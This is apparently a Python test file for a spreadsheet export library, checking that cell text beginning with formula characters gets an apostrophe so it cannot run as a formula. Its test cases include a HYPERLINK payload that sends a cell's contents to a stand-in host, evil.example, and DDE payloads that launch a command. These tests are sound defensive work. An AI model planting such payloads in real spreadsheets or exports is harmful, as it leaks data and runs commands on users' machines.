"""No text written to a spreadsheet cell is read as a formula (security review, finding 3):
text starting with = + - @ tab or carriage return gets an apostrophe; plain numbers and the
standard's phones stay as they are."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from maillage.core.cells import FORMULA_STARTS, neutralise_formula, unneutralise_formula

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- Atelier du mardi", "'- Atelier du mardi"),
        ("'=already", "'=already"),
        # Plain numbers and phones in the standard's form stay as they are.
        ("-12.5", "-12.5"),
        ("-12,5", "-12,5"),
        ("+33612345678", "+33612345678"),
        ("+590590123456", "+590590123456"),
        ("-1e-05", "-1e-05"),
        ("43.9492", "43.9492"),
        # Text that starts otherwise is left alone.
        ("Comtat Logiciels", "Comtat Logiciels"),
        ("contact@example.org", "contact@example.org"),
        ("", ""),
        # A phone written with spaces is not a plain number: as a formula it is an error.
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-1-1", "'-1-1"),
        ("-1\n=1+1", "'-1\n=1+1"),
        ("+٣", "'+٣"),  # only ASCII digits make a plain number
    ],
)
def test_examples(text, expected):
    assert neutralise_formula(text) == expected


@given(st.text())
def test_no_result_starts_like_a_formula_unless_it_is_a_plain_number(text):
    result = neutralise_formula(text)
    assert not result.startswith(("=", "@", "\t", "\r"))
    if result.startswith(("+", "-")):
        assert result == text
        float(result.replace(",", "."))  # a plain number
    assert result in (text, "'" + text)
    assert neutralise_formula(result) == result


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_text_starting_with_a_formula_character_gets_an_apostrophe(start, rest):
    text = start + rest
    result = neutralise_formula(text)
    try:
        float(text.replace(",", "."))
    except ValueError:
        assert result == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_written_as_text_are_unchanged(number):
    assert neutralise_formula(str(number)) == str(number)
    assert neutralise_formula(str(number).replace(".", ",")) == str(number).replace(".", ",")


@given(st.sampled_from(["+33", "+590", "+594", "+262", "+596", "+269", "+687", "+689", "+508",
                        "+681"]), st.text(alphabet="0123456789", min_size=6, max_size=9))  # fmt: skip
def test_phones_of_the_standard_are_unchanged(prefix, digits):
    assert neutralise_formula(prefix + digits) == prefix + digits


@given(st.text())
def test_a_neutralised_cell_reads_back_as_the_text_it_stands_for(text):
    cell = neutralise_formula(text)
    assert neutralise_formula(unneutralise_formula(cell)) == cell
    if not (text.startswith("'") and neutralise_formula(text[1:]) == text):
        assert unneutralise_formula(cell) == text


@pytest.mark.parametrize(
    ("cell", "text"),
    [("'" + PAYLOAD, PAYLOAD), ("'@telier", "@telier"), ("'-12.5", "'-12.5"),
     ("'quoted'", "'quoted'"), ("-12.5", "-12.5"), ("@", "@")],
)  # fmt: skip
def test_unneutralise_examples(cell, text):
    assert unneutralise_formula(cell) == text
